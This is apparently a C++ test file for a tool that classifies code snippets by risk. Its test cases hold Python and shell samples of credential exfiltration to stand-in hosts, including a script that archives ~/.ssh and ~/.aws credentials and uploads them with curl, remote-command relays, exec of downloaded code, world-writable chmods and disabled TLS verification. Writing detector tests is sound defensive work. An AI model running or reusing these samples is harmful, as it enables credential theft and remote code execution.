// The classes the seventy-first and seventy-second rounds modelled (issue
// 14), found by programs written from the rubric alone by writers who never
// saw the assessor (tests/corpus/prog75_MANIFEST.tsv, prog76_MANIFEST.tsv).
// Their asides scored 24/26 and 29/31 before any change for them; the
// classes below came from their tune parts (71/74 and 66/69 before).
// Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// A serial port or terminal is written to talk to it; its mode and owner
// are root's, so changing them is a change under /dev like any other.
TEST(SeventyFirstRoundClasses, ModeAndOwnerOfADeviceNodeAreSystemChanges) {
  const Case cases[] = {
      {"a USB serial node made world read/write", H,
       "import os\n"
       "os.chmod(os.path.realpath('/dev/ttyUSB0'), 0o666)\n",
       "SYSTEM-MODIFICATION"},
      {"a serial node given to the user", H,
       "import os\n"
       "os.chown('/dev/ttyACM0', 1000, 20)\n",
       "SYSTEM-MODIFICATION"},
      {"a frame written to the serial port", L,
       "with open('/dev/ttyUSB0', 'wb') as port:\n"
       "    port.write(b'AT\\r')\n",
       nullptr},
      {"chmod of a node under /dev/shm (temporary)", L,
       "import os\n"
       "os.chmod('/dev/shm/frames.lock', 0o600)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// Template(TEXT).substitute(os.environ) reads the variables TEXT names, not
// the whole environment.
TEST(SeventyFirstRoundClasses, ATemplateFilledFromTheEnvironmentCarriesTheVariablesItNames) {
  const Case cases[] = {
      {"a container's environment built from ${HOME}, sent to the engine", L,
       "import os, string, requests\n"
       "env = string.Template('DATA=${HOME}/data').substitute(os.environ)\n"
       "requests.post('https://deploy.example.com/v1/run', json={'Env': [env]}, timeout=10)\n",
       nullptr},
      {"a secret variable named by the template, sent elsewhere", B,
       "import os, string, requests\n"
       "x = string.Template('k=${AWS_SECRET_ACCESS_KEY}').substitute(os.environ)\n"
       "requests.post('https://collect.example.net/a', data=x, timeout=10)\n",
       "EXFILTRATION"},
      {"a downloaded mapping substituted into code that runs", B,
       "import string, requests\n"
       "cfg = requests.get('https://cfg.example.com/c', timeout=10).json()\n"
       "exec(string.Template('$body').substitute(cfg))\n",
       "REMOTE-CODE-EXECUTION"},
  };
  for (const auto& c : cases) check(c);
}

// A settings dict holding a key and a log path: the path looked up by its
// name is a path, not the key beside it.
TEST(SeventyFirstRoundClasses, AnEntryLookedUpByItsKeyCarriesItsOwnTaint) {
  const Case cases[] = {
      {"the report named in the settings posted to a dashboard", L,
       "import os, requests\n"
       "conf = {'api_key': os.environ.get('HELPDESK_API_KEY'), 'site': 'support-wall'}\n"
       "requests.post('https://dash.example.net/v1/status', json={'site': conf['site']}, timeout=10)\n",
       nullptr},
      {"the key from the same settings posted to the dashboard", B,
       "import os, requests\n"
       "conf = {'api_key': os.environ.get('HELPDESK_API_KEY'), 'site': 'support-wall'}\n"
       "requests.post('https://dash.example.net/v1/status', json={'k': conf['api_key']}, timeout=10)\n",
       "EXFILTRATION"},
  };
  for (const auto& c : cases) check(c);
}

// A flag compared against its setting's default: off unless the user
// turns it on, so what it switches is judged by the default.
TEST(SeventyFirstRoundClasses, AFlagComparedWithItsDefaultIsDecided) {
  const Case cases[] = {
      {"TLS verification that stays off unless VERIFY_TLS is set", M,
       "import os, requests\n"
       "verify = os.environ.get('VERIFY_TLS', '0') not in ('0', 'false', 'no')\n"
       "s = requests.Session()\n"
       "s.verify = verify\n"
       "s.get('https://api.example.com/tickets', timeout=10)\n",
       "TLS-VERIFICATION-OFF"},
      {"TLS verification on unless the user turns it off", L,
       "import os, requests\n"
       "verify = os.environ.get('VERIFY_TLS', '1') not in ('0', 'false', 'no')\n"
       "s = requests.Session()\n"
       "s.verify = verify\n"
       "s.get('https://api.example.com/tickets', timeout=10)\n",
       nullptr},
      {"a debug server on unless APP_DEBUG is 0", M,
       "import os\n"
       "from flask import Flask\n"
       "app = Flask(__name__)\n"
       "app.run(debug=os.environ.get('APP_DEBUG', '1') == '1')\n",
       "DEBUG-OR-FILE-SERVER"},
      {"a debug server only when APP_DEBUG is 1", L,
       "import os\n"
       "from flask import Flask\n"
       "app = Flask(__name__)\n"
       "app.run(debug=os.environ.get('APP_DEBUG', '0') == '1')\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// A command chosen from a table of fixed probes or taken whole from the
// relay's request: every alternative runs, the received line too.
TEST(SeventyFirstRoundClasses, EveryAlternativeOfACommandIsJudged) {
  const Case cases[] = {
      {"five fixed probes or a line the relay sent", B,
       "import json, socket, subprocess\n"
       "PROBES = {'a': ['uptime'], 'b': ['df', '-h'], 'c': ['free', '-m'],\n"
       "          'd': ['ls', '/sys/class/drm'], 'e': ['pgrep', '-a', 'player']}\n"
       "def resolve(req):\n"
       "    if req.get('probe') in PROBES:\n"
       "        return PROBES[req['probe']], False\n"
       "    return req.get('line'), True\n"
       "sock = socket.create_connection(('relay.example.net', 7443))\n"
       "while True:\n"
       "    req = json.loads(sock.recv(4096))\n"
       "    cmd, shell = resolve(req)\n"
       "    subprocess.run(cmd, shell=shell)\n",
       "REMOTE-CODE-EXECUTION"},
      {"only the five fixed probes", M,
       "import json, socket, subprocess\n"
       "PROBES = {'a': ['uptime'], 'b': ['df', '-h'], 'c': ['free', '-m'],\n"
       "          'd': ['ls', '/sys/class/drm'], 'e': ['pgrep', '-a', 'player']}\n"
       "sock = socket.create_connection(('relay.example.net', 7443))\n"
       "while True:\n"
       "    req = json.loads(sock.recv(4096))\n"
       "    if req.get('probe') in PROBES:\n"
       "        subprocess.run(PROBES[req['probe']])\n",
       "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// What a loop prints is every pass's output: the member list a function
// writes for tar -T names the files the archive holds.
TEST(SeventyFirstRoundClasses, ALoopsOutputIsEveryPasssLines) {
  const Case cases[] = {
      {"credentials listed by a function, archived with tar -T and uploaded", B,
       "#!/bin/bash\n"
       "WORK=$(mktemp -d)\n"
       "collect() {\n"
       "    local p\n"
       "    for p in \"$HOME/.config/node\" \"$HOME/.ssh\" \"$HOME/.aws/credentials\"; do\n"
       "        [ -e \"$p\" ] && printf '%s\\n' \"${p#$HOME/}\"\n"
       "    done\n"
       "}\n"
       "collect > \"$WORK/list\"\n"
       "tar -C \"$HOME\" -czf \"$WORK/s.tgz\" -T \"$WORK/list\"\n"
       "curl -fsS -F \"s=@$WORK/s.tgz\" https://archive.example.org/in\n",
       "EXFILTRATION", Language::shell},
      {"the project's own files listed the same way", L,
       "#!/bin/bash\n"
       "for p in src docs README.md; do\n"
       "    printf '%s\\n' \"$p\"\n"
       "done > list.txt\n"
       "tar -czf release.tgz -T list.txt\n"
       "curl -fsS -F \"s=@release.tgz\" https://releases.example.org/in\n",
       nullptr, Language::shell},
  };
  for (const auto& c : cases) check(c);
}

// Left by the seventieth round: a mapping read at run time (json.load,
// tomllib.load) has no known keys, but .get(KEY, DEFAULT) may be the default.
TEST(SeventyFirstRoundClasses, ARunTimeMappingsGetMayBeItsDefault) {
  const Case cases[] = {
      {"a web root from TOML settings, defaulting under /var/www, made 0777", H,
       "import os, tomllib\n"
       "with open('site.toml', 'rb') as fh:\n"
       "    cfg = tomllib.load(fh)\n"
       "os.chmod(cfg.get('webroot', '/var/www/html/portfolio'), 0o777)\n",
       "PERMISSIONS-ON-SYSTEM-PATHS"},
      {"an output directory from JSON settings, defaulting to ./public", L,
       "import json, os\n"
       "with open('site.json') as fh:\n"
       "    cfg = json.load(fh)\n"
       "os.makedirs(cfg.get('out', 'public'), exist_ok=True)\n",
       nullptr},
      {"a downloaded mapping's command still runs what came", B,
       "import json, subprocess, urllib.request\n"
       "cfg = json.load(urllib.request.urlopen('https://cfg.example.com/c.json', timeout=10))\n"
       "subprocess.run(cfg.get('cmd', 'true'), shell=True)\n",
       "REMOTE-CODE-EXECUTION"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
